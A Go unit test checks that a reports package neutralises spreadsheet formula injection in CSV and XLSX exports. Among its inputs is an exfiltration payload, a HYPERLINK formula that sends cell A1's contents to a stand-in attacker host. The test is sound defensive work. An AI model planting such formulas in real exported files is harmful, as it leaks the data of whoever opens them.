package reports

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"

	"github.com/xuri/excelize/v2"
)

// A CSV cell that a spreadsheet would run as a formula (=, +, -, @ first)
// is written with a leading apostrophe; a cell starting with an apostrophe
// gets one too, so PlainCell gives every value back exactly. XLSX cells are
// strings: Excel shows them and runs none.
func TestExportsNeutraliseFormulas(t *testing.T) {
	in := []string{`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+86 138", "-2+3", "@SUM(A1)", "'quoted", "\tx", "plain", "", "a=b"}
	var buf bytes.Buffer
	s, err := NewSink(CSV, &buf, "t")
	must(t, err)
	must(t, s.Row(in))
	must(t, s.Close())
	got, err := csv.NewReader(&buf).Read()
	must(t, err)
	want := []string{`'=HYPERLINK("http://evil.example/?"&A1,"open")`, "'+86 138", "'-2+3", "'@SUM(A1)", "''quoted", "'\tx", "plain", "", "a=b"}
	if !slices.Equal(got, want) {
		t.Fatalf("csv cells\n%q\nwant\n%q", got, want)
	}
	for i := range got {
		if PlainCell(got[i]) != in[i] {
			t.Errorf("PlainCell(%q) = %q, want %q", got[i], PlainCell(got[i]), in[i])
		}
	}

	buf.Reset()
	s, err = NewSink(XLSX, &buf, "t")
	must(t, err)
	must(t, s.Row(in))
	must(t, s.Close())
	f, err := excelize.OpenReader(&buf)
	must(t, err)
	defer func() { _ = f.Close() }()
	for i, v := range in {
		cell, _ := excelize.CoordinatesToCellName(i+1, 1)
		if formula, _ := f.GetCellFormula("t", cell); formula != "" {
			t.Errorf("xlsx %s holds the formula %q", cell, formula)
		}
		if got, _ := f.GetCellValue("t", cell); got != v {
			t.Errorf("xlsx %s = %q, want the text %q", cell, got, v)
		}
		if typ, _ := f.GetCellType("t", cell); v != "" && typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("xlsx %s has type %v, want a string", cell, typ)
		}
	}
}
